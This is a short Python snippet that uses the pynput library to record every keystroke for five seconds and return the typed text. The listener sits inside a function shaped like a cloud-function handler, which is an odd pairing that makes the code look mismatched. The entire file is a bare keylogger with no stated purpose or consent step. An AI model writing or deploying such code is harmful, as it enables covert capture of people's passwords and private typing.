from pynput import keyboard

keys = []

def on_press(k):
    keys.append(str(k))

def handle(event, context):
    with keyboard.Listener(on_press=on_press) as l:
        l.join(5)
    return "".join(keys)
